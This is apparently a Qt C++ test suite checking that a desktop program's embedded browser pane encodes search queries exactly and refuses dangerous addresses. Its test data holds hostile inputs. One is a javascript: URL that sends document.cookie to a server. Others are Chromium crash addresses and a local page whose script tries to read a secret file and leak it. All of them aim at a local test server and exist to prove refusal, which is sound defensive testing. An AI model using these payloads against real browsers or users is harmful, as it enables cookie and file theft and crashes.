// SPDX-License-Identifier: GPL-3.0-or-later
// The real browser pane: a search reaches a local server byte for byte, the status line follows
// the load, and a hostile service list neither crashes the program nor sends anything away.
#include "BrowserPane.h"
#include "Error.h"
#include "FakePrompts.h"
#include "FakeTrayIcon.h"
#include "Main.h"
#include "Search.h"

#include <QDir>
#include <QFile>
#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QListView>
#include <QTcpServer>
#include <QTcpSocket>
#include <QTemporaryDir>
#include <QTest>
#include <QWebEngineView>

// Answers every request with a small page and keeps the requests (request line and headers).
// "/site" also sets a cookie.
class RecordingServer : public QObject
{
public:
    RecordingServer()
    {
        connect(&m_server, &QTcpServer::newConnection, this, [this] {
            while (QTcpSocket *socket = m_server.nextPendingConnection()) {
                connect(socket, &QTcpSocket::readyRead, socket, [this, socket] { serve(socket); });
                connect(socket, &QTcpSocket::disconnected, socket, &QObject::deleteLater);
            }
        });
        QVERIFY(m_server.listen(QHostAddress::LocalHost));
    }
    quint16 port() const { return m_server.serverPort(); }
    QByteArray base() const { return "http://127.0.0.1:" + QByteArray::number(port()); }
    QList<QByteArray> requests; // the request lines
    QList<QByteArray> heads;    // request line and headers of each request

    // The head of the first request whose line starts "GET <path>"; empty when none came.
    QByteArray headFor(const QByteArray &path) const
    {
        for (const QByteArray &head : heads) {
            if (head.startsWith("GET " + path))
                return head;
        }
        return {};
    }

private:
    void serve(QTcpSocket *socket)
    {
        QByteArray &buffer = m_buffers[socket];
        buffer += socket->readAll();
        if (!buffer.contains("\r\n\r\n"))
            return;
        const QByteArray line = buffer.left(buffer.indexOf("\r\n"));
        requests.append(line);
        heads.append(buffer.left(buffer.indexOf("\r\n\r\n")));
        const QByteArray cookie = line.startsWith("GET /site ")
                ? QByteArray("Set-Cookie: secret=s3cr3t; Path=/\r\n")
                : QByteArray();
        const QByteArray body = "<html><body><h1>Result</h1></body></html>";
        socket->write("HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nConnection: close\r\n" + cookie
                      + "Content-Length: " + QByteArray::number(body.size()) + "\r\n\r\n" + body);
        socket->disconnectFromHost();
        m_buffers.remove(socket);
    }

    QTcpServer m_server;
    QHash<QTcpSocket *, QByteArray> m_buffers;
};

class TestPaneSafety : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void addressToUrl_data();
    void addressToUrl();
    void refusedByThePane_data();
    void refusedByThePane();
    void searchReachesTheServer();
    void exactQueryBytes_data();
    void exactQueryBytes();
    void survivesCrashAddresses();
    void cookieStaysHome();
    void localPageReadsNoFile();
    void engineMissing();

private:
    static bool waitForRequest(RecordingServer &server, const QByteArray &path)
    {
        return QTest::qWaitFor([&] { return !server.headFor(path).isEmpty(); }, 60000);
    }
    // The engine's pane on its own, shown.
    static std::unique_ptr<BrowserPane> shownPane()
    {
        std::unique_ptr<BrowserPane> pane(LoadBrowserPane(nullptr, {}));
        pane->resize(400, 300);
        pane->show();
        if (!QTest::qWaitForWindowExposed(pane.get()))
            qWarning("the pane was not shown");
        return pane;
    }
};

// What the engine is given is the address as composed: every %XX and "+" of it untouched.
void TestPaneSafety::addressToUrl_data()
{
    QTest::addColumn<QString>("address");
    QTest::addColumn<QByteArray>("expected");
    QFile file(QStringLiteral(GL_TEST_DATA "/address/addresses.json"));
    QVERIFY(file.open(QIODevice::ReadOnly));
    const QJsonObject data = QJsonDocument::fromJson(file.readAll()).object();
    int n = 0;
    for (const QJsonValue &row : data.value(u"rows").toArray()) {
        for (const char *column : {"query", "path", "windows-1251", "shift_jis", "%20"}) {
            const QString address = row[QLatin1String(column)].toString();
            QTest::addRow("%d %s", n, column) << address << address.toLatin1();
        }
        ++n;
    }
    QTest::newRow("characters that cannot stand in an address")
            << QStringLiteral(u"http://h/a b?q=\"x\" \u00e9&r=100%")
            << QByteArray("http://h/a%20b?q=%22x%22%20%C3%A9&r=100%25");
    QTest::newRow("an invalid escape leaves the others alone")
            << "http://h/?a=%zz&b=%2B+&c=%26" << QByteArray("http://h/?a=%25zz&b=%2B+&c=%26");
    QTest::newRow("the readme") << "/opt/Glen Lantern/ReadMe.html"
                                << QByteArray("file:///opt/Glen%20Lantern/ReadMe.html");
}

void TestPaneSafety::addressToUrl()
{
    QFETCH(QString, address);
    QFETCH(QByteArray, expected);
    const QUrl url = CheckedUrl(address);
    QCOMPARE(url.toEncoded(), expected);
    // The engine may be given the pretty form: it reads back to the same address.
    QCOMPARE(QUrl(url.toString()).toEncoded(), expected);
}

void TestPaneSafety::refusedByThePane_data()
{
    QTest::addColumn<QString>("address");
    QTest::addColumn<QString>("message");
    const QString scheme = QStringLiteral("The browser pane opens only http, https and local file "
                                          "addresses, not \"%1:\" addresses");
    QTest::newRow("chrome://gpucrash") << "chrome://gpucrash" << scheme.arg("chrome");
    QTest::newRow("inducebrowsercrashforrealz")
            << "CHROME://inducebrowsercrashforrealz" << scheme.arg("chrome");
    QTest::newRow("javascript:") << "javascript:location='http://h/?c='+document.cookie"
                                 << scheme.arg("javascript");
    QTest::newRow("view-source:") << "view-source:http://h/" << scheme.arg("view-source");
    QTest::newRow("data:") << "data:text/html,<script>alert(1)</script>" << scheme.arg("data");
    QTest::newRow("no scheme") << "www.example.org"
                               << "The browser pane cannot open \"www.example.org\": it is "
                                  "neither a web address nor a local file";
    const QString longest = "http://h/?q=" + QString(2 * 1024 * 1024 - 12, u'a');
    QTest::newRow("longer than the engine opens")
            << longest + "b"
            << "The address is 2097153 characters long; the browser pane opens addresses of up "
               "to 2097152 characters";
}

// Whatever reaches the window, the pane is given no internal page, no script and nothing too
// long.
void TestPaneSafety::refusedByThePane()
{
    QFETCH(QString, address);
    QFETCH(QString, message);
    try {
        CheckedUrl(address);
        QFAIL("no error");
    } catch (const CommandError &error) {
        QCOMPARE(error.message(), message);
    }
}

void TestPaneSafety::searchReachesTheServer()
{
    RecordingServer server;
    QTemporaryDir folder;
    const QString previous = QDir::currentPath();
    QDir::setCurrent(folder.path());
    MainWindowParts parts;
    parts.prompts = std::make_unique<FakePrompts>();
    parts.createBrowser = LoadBrowserPane;
    parts.trayIcon = std::make_unique<FakeTrayIcon>();
    QStringList errors;
    parts.showError = [&](QWidget *, const QString &message) { errors.append(message); };
    parts.clockMs = [] { return qint64(0); };
    parts.openInDefaultBrowser = [](const QString &, QString *) { return false; };
    TfrmMain window(std::move(parts));
    QDir::setCurrent(previous);
    window.services().list.Append("Crash=chrome://gpucrash");
    window.services().list.Append("Local=" + server.base() + "/s?q=|s|&x=1");
    window.services().list.Append("Crash too=chrome://inducebrowsercrashforrealz");
    window.terms().list.Append("C++ & more #1 \xd0\x9f\xd1\x80\xd0\xb8");
    window.show();
    QVERIFY(QTest::qWaitForWindowExposed(&window));
    auto click = [&](const char *name, int row) {
        auto *view = window.findChild<QListView *>(QString::fromLatin1(name));
        QTest::mouseClick(view->viewport(), Qt::LeftButton, {},
                          view->visualRect(view->model()->index(row, 0)).center());
    };

    click("lstbxTerms", 0); // with the first service: refused, the program lives on
    QCOMPARE(errors.size(), 1);
    QVERIFY2(errors.last().startsWith("The service \"Crash\" opens a chrome: address"),
             qPrintable(errors.last()));
    click("lstbxServices", 1);
    QCOMPARE(window.statusText(), QStringLiteral("Navigating..."));
    QVERIFY(waitForRequest(server, "/s?"));
    QCOMPARE(server.requests.first(),
             QByteArray("GET /s?q=C%2B%2B+%26+more+%231+%D0%9F%D1%80%D0%B8&x=1 HTTP/1.1"));
    QTRY_COMPARE_WITH_TIMEOUT(window.statusText(), QStringLiteral("Navigation Complete"), 60000);
    click("lstbxServices", 2);
    QCOMPARE(errors.size(), 2);
    QVERIFY2(errors.last().startsWith("The service \"Crash too\" opens a chrome: address"),
             qPrintable(errors.last()));
    QTest::qWait(500);
    QCOMPARE(window.statusText(), QStringLiteral("Navigation Complete"));
    for (const QByteArray &line : std::as_const(server.requests))
        QVERIFY2(line.startsWith("GET /s?") || line.startsWith("GET /favicon.ico"),
                 line.constData());
}

// Expected request lines from Python's urllib (see tests/data/address/make_addresses.py).
void TestPaneSafety::exactQueryBytes_data()
{
    QTest::addColumn<QByteArray>("service"); // after "Local=http://127.0.0.1:port"
    QTest::addColumn<QString>("term");
    QTest::addColumn<QByteArray>("request");
    QTest::addColumn<QByteArray>("postData"); // sent as a form when not empty
    QTest::newRow("query: & + # and Cyrillic")
            << QByteArray("/s?q=|s|&x=1")
            << QStringLiteral(u"C++ & more #1 \u041f\u0440\u0438\u0432\u0435\u0442")
            << QByteArray("GET /s?q=C%2B%2B+%26+more+%231+%D0%9F%D1%80%D0%B8%D0%B2%D0%B5%D1%82&x=1 "
                          "HTTP/1.1")
            << QByteArray();
    QTest::newRow("windows-1251") << QByteArray("/s?q=|s:windows-1251|")
                                  << QStringLiteral(
                                             u"\u041f\u0440\u0438\u0432\u0435\u0442 & \u00e9")
                                  << QByteArray("GET /s?q=%CF%F0%E8%E2%E5%F2+%26+%26%23233%3B "
                                                "HTTP/1.1")
                                  << QByteArray();
    QTest::newRow("path") << QByteArray("/w/|s|/x?y=1") << "a b+c/d?"
                          << QByteArray("GET /w/a%20b%2Bc%2Fd%3F/x?y=1 HTTP/1.1") << QByteArray();
    QTest::newRow("stored escapes kept") << QByteArray("/r%2B?a=%2B+%26&q=|s|") << "x"
                                         << QByteArray("GET /r%2B?a=%2B+%26&q=x HTTP/1.1")
                                         << QByteArray();
    QTest::newRow("a form's search is posted") << QByteArray("/post?|s|") << "x"
                                               << QByteArray("POST /post?x HTTP/1.1")
                                               << QByteArray("q=x");
}

void TestPaneSafety::exactQueryBytes()
{
    QFETCH(QByteArray, service);
    QFETCH(QString, term);
    QFETCH(QByteArray, request);
    QFETCH(QByteArray, postData);
    RecordingServer server;
    const std::unique_ptr<BrowserPane> pane = shownPane();
    pane->load({CheckedUrl(GoAddressFor("Local=" + server.base() + service, term)), postData});
    QTRY_VERIFY_WITH_TIMEOUT(!server.requests.isEmpty(), 60000);
    QCOMPARE(server.requests.first(), request);
}

// chrome://gpucrash and chrome://inducebrowsercrashforrealz end the whole process when the
// engine is given them: Go refuses them, and so does the pane itself.
void TestPaneSafety::survivesCrashAddresses()
{
    RecordingServer server;
    const std::unique_ptr<BrowserPane> pane = shownPane();
    pane->load({CheckedUrl(QString::fromLatin1(server.base() + "/first"))});
    QVERIFY(waitForRequest(server, "/first"));
    const QStringList crashes {"chrome://gpucrash", "chrome://inducebrowsercrashforrealz",
                               " CHROME://GPUCRASH", "chrome:gpucrash"};
    for (const QString &crash : crashes) {
        QVERIFY_THROWS_EXCEPTION(CommandError, GoAddressFor("Crash=" + crash.toUtf8(), "x"));
        QVERIFY_THROWS_EXCEPTION(CommandError, GoAddressFor("Crash=|s:raw|", crash));
        QVERIFY_THROWS_EXCEPTION(CommandError, CheckedUrl(crash));
        pane->load({QUrl(crash)}); // the pane itself refuses it too
    }
    QTest::qWait(1000);
    pane->load({CheckedUrl(GoAddressFor("Local=" + server.base() + "/after?q=|s|", "alive"))});
    QVERIFY(waitForRequest(server, "/after?q=alive"));
}

// A service that would run script in the shown site sends nothing: the site's cookie stays.
void TestPaneSafety::cookieStaysHome()
{
    RecordingServer server;
    const std::unique_ptr<BrowserPane> pane = shownPane();
    pane->load({CheckedUrl(QString::fromLatin1(server.base() + "/site"))});
    QVERIFY(waitForRequest(server, "/site"));
    QTest::qWait(300); // the page and its cookie settle
    const QByteArray steal
            = "Steal=javascript:location='" + server.base() + "/x?c='+document.cookie";
    QVERIFY_THROWS_EXCEPTION(CommandError, GoAddressFor(steal, "x"));
    QVERIFY_THROWS_EXCEPTION(CommandError, CheckedUrl(QString::fromLatin1(steal.mid(6))));
    pane->load({QUrl(QString::fromLatin1(steal.mid(6)))}); // the pane itself refuses it too
    QTest::qWait(1500);
    pane->load({CheckedUrl(QString::fromLatin1(server.base() + "/check"))});
    QVERIFY(waitForRequest(server, "/check"));
    // The cookie was there to steal, and it went nowhere but home.
    QVERIFY(server.headFor("/check").contains("Cookie: secret=s3cr3t"));
    QVERIFY(server.headFor("/x").isEmpty());
    for (const QByteArray &line : std::as_const(server.requests))
        QVERIFY2(!line.contains("s3cr3t"), line.constData());
}

// A local page's script reads no other file and reaches no web address: it can neither read a
// file nor send anything away.
void TestPaneSafety::localPageReadsNoFile()
{
    RecordingServer server;
    QTemporaryDir folder;
    QVERIFY(folder.isValid());
    QFile secret(folder.filePath(QStringLiteral("secret.txt")));
    QVERIFY(secret.open(QIODevice::WriteOnly));
    secret.write("TOPSECRET");
    secret.close();
    QFile page(folder.filePath(QStringLiteral("page.html")));
    QVERIFY(page.open(QIODevice::WriteOnly));
    page.write("<html><body><script>\n"
               "function send(text) {\n"
               "  document.title = 'done ' + text;\n"
               "  location.href = '"
               + server.base()
               + "/leak?d=' + encodeURIComponent(text);\n"
                 "}\n"
                 "var x = new XMLHttpRequest();\n"
                 "x.onload = function () { send('read:' + x.responseText); };\n"
                 "x.onerror = function () { send('refused'); };\n"
                 "try { x.open('GET', 'file://"
               + secret.fileName().toUtf8()
               + "'); x.send(); }\n"
                 "catch (e) { send('refused'); }\n"
                 "</script></body></html>\n");
    page.close();
    const std::unique_ptr<BrowserPane> pane = shownPane();
    pane->load({CheckedUrl(page.fileName())});
    auto *view = pane->findChild<QWebEngineView *>(QStringLiteral("brwWebView"));
    QVERIFY(view);
    // Every title the page had: the refused navigation's error page may replace the script's
    // own before a loaded machine looks.
    QStringList titles;
    connect(view, &QWebEngineView::titleChanged, this, [&](const QString &title) { titles << title; });
    // The script ran to its end: the file was refused to it, and its message went nowhere.
    QTRY_VERIFY_WITH_TIMEOUT(titles.contains(QStringLiteral("done refused")), 60000);
    QTest::qWait(1500);
    QCOMPARE(server.requests, QList<QByteArray>());
}

// Without the plugin the window still hears that the engine is as ready as it gets (it must
// not wait for it), and the first search then says what is missing.
void TestPaneSafety::engineMissing()
{
    const QStringList paths = QCoreApplication::libraryPaths();
    const QTemporaryDir empty;
    QCoreApplication::setLibraryPaths({empty.path()});
    QObject context;
    int ready = 0;
    PreloadBrowserEngine(&context, [&ready] { ++ready; });
    QTRY_COMPARE(ready, 1);
    QString message;
    try {
        delete LoadBrowserPane(nullptr, {});
    } catch (const CommandError &error) {
        message = error.message();
    }
    QCoreApplication::setLibraryPaths(paths);
    QVERIFY2(message.contains(QLatin1String(kBrowserEnginePlugin)), qPrintable(message));
}

int main(int argc, char *argv[])
{
    PrepareBrowserEngine();
    QApplication app(argc, argv);
    // The engine plugin is built beside the program, not beside the tests.
    QCoreApplication::addLibraryPath(QStringLiteral(GL_BINARY_DIR));
    TestPaneSafety test;
    return QTest::qExec(&test, argc, argv);
}
#include "tst_panesafety.moc"
